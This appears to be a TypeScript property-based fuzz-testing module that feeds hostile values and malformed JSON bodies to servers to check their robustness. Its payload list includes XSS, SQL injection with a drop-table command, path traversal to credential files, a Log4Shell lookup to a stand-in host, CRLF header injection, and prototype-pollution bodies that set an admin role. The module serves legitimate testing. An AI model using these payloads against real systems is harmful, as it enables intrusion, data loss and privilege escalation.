/** Values and bytes that break careless servers, and changes that put them into a request body. */
import fc from 'fast-check'

const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  '\0',
  'before\0after',
  '\u{d800}',
  '\u{dfff}x',
  '\u202eoverride',
  '\u200b',
  '\ufeff',
  '𝕊𝕙𝕠𝕡 👩🏽‍⚕️ e\u0301',
  'a\u0300'.repeat(300),
  'A'.repeat(300),
  'A'.repeat(10_000),
  '\u{1f48a}'.repeat(5_000),
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' or '1'='1' --",
  "'; drop table orders; --",
  '%',
  '_%_',
  '\\',
  '%00',
  '%ff%fe',
  '%c0%ae%c0%ae/',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '=1+1',
  '|x',
  'x\r\nBcc: other@example.com',
  'x\r\nSet-Cookie: a=b',
  '//evil.example',
  'javascript:alert(1)',
  'NaN',
  'null',
  'undefined',
  'true',
  '-0',
  '1e309',
  '00000000000000000001',
  '9223372036854775808',
  '2026-02-30',
  '0000-00-00',
  '99999-01-01',
  '+999999-01-01T00:00:00Z',
  '[object Object]',
  '__proto__',
  'constructor',
  'a@b',
  `${'a'.repeat(250)}@example.com`,
  '"quoted\\"name"@example.com',
  '用户@例え.jp',
  '(((((((((((((((((((((((((a',
]

export const hostileTextArbitrary: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
)

const hostileValueArbitrary: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileTextArbitrary },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      ...[null, true, false, 0, -0, -1, 1.5, 0.1 + 0.2, 1e308, -1e308, 5e-324],
      ...[2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 2 ** 63, 99.995],
      ...[[], {}, [[]], [null], [{}], { toString: 1 }, { length: 1e9 }],
    ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      Array.from({ length: 3_000 }, () => 1),
      Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`key${index}`, index])),
      createNestedList(200),
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
)

function createNestedList(depth: number): unknown {
  return depth === 0 ? 1 : [createNestedList(depth - 1)]
}

/** Limits of `listPaths`, so that changes of large values stay fast. */
const maxPathDepth = 6
const maxEntriesPerNode = 30
/** Characters of a hostile text that becomes the name of an added field. */
const maxAddedKeyLength = 50

/** One change of a JSON value. */
export type Change = {
  /** 0 to 1: selects one of the paths inside the value. */
  pathPosition: number
  kind: 'replace' | 'delete' | 'add' | 'copy'
  /** For `replace` and `add`. */
  newValue: unknown
}

export const valueChangeArbitrary: fc.Arbitrary<Change> = fc.record({
  pathPosition: fc.double({ min: 0, max: 0.999, noNaN: true }),
  kind: fc.constantFrom('replace', 'replace', 'replace', 'delete', 'add', 'copy'),
  newValue: hostileValueArbitrary,
})

/** Returns a copy of the value with one change. The whole value is replaced, not deleted. */
export function changeValue(value: unknown, { pathPosition, kind, newValue }: Change): unknown {
  const paths = listPaths(value)
  const path = paths[Math.floor(pathPosition * paths.length)] ?? []
  return changeAtPath(value, path, { kind, newValue })
}

/** Returns the paths of the value and of all values inside it; a path is a list of keys. */
function listPaths(value: unknown, path: readonly string[] = []): (readonly string[])[] {
  if (typeof value !== 'object' || value === null || path.length > maxPathDepth) return [path]
  const entries = Object.entries(value).slice(0, maxEntriesPerNode)
  return [path, ...entries.flatMap(([key, child]) => listPaths(child, [...path, key]))]
}

function changeAtPath(
  value: unknown,
  [key, ...remainingPath]: readonly string[],
  change: Pick<Change, 'kind' | 'newValue'>,
): unknown {
  const { kind, newValue } = change
  if (key === undefined || typeof value !== 'object' || value === null) {
    if (kind === 'add' && typeof value === 'object' && value !== null && !Array.isArray(value)) {
      const addedKey = typeof newValue === 'string' ? newValue.slice(0, maxAddedKeyLength) : 'added'
      return { ...value, [addedKey]: newValue }
    }
    if (kind === 'copy') return [value, value]
    return newValue
  }
  const isLastKey = remainingPath.length === 0
  if (Array.isArray(value)) {
    const items: unknown[] = value
    if (kind === 'delete' && isLastKey) return items.filter((_, index) => String(index) !== key)
    if (kind === 'copy' && isLastKey) return [...items, ...items]
    return items.map((item, index) =>
      String(index) === key ? changeAtPath(item, remainingPath, change) : item,
    )
  }
  const entries = Object.entries(value)
  if (kind === 'delete' && isLastKey)
    return Object.fromEntries(entries.filter(([name]) => name !== key))
  return Object.fromEntries(
    entries.map(([name, child]) => [
      name,
      name === key ? changeAtPath(child, remainingPath, change) : child,
    ]),
  )
}

/** Changes of a body's text that produce invalid JSON, duplicate keys or other bytes. */
export const bodyTextChangeArbitrary: fc.Arbitrary<(body: string) => Buffer> = fc.constantFrom<
  (body: string) => Buffer
>(
  (body) => Buffer.from(body.slice(0, Math.floor(body.length / 2))),
  (body) => Buffer.from(`\ufeff${body}`),
  (body) => Buffer.from(`${body}{}`),
  (body) => Buffer.from(body.replace(/\d+/, '1e999')),
  (body) => Buffer.from(body.replace(/\d+/, '-'.padEnd(400, '9'))),
  (body) => Buffer.from(body.replace('{', '{"__proto__":{"role":"admin"},')),
  (body) => Buffer.from(body.replace('{', '{"constructor":{"prototype":{"role":"admin"}},')),
  (body) => Buffer.from(body.replace(/"(\w+)":/, '"$1":0,"$1":')),
  (body) => Buffer.from(body, 'utf16le'),
  (body) => Buffer.concat([Buffer.from(body.slice(0, 5)), Buffer.from([0xff, 0xfe, 0xc0, 0x80])]),
  () => Buffer.alloc(0),
  () => Buffer.from('null'),
  () => Buffer.from('"text"'),
  () => Buffer.from('\\u0000'),
  () => Buffer.from('['.repeat(10_000)),
  () => Buffer.from(`${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`),
  () => Buffer.from(`{"a":"${'x'.repeat(70_000)}"}`),
)
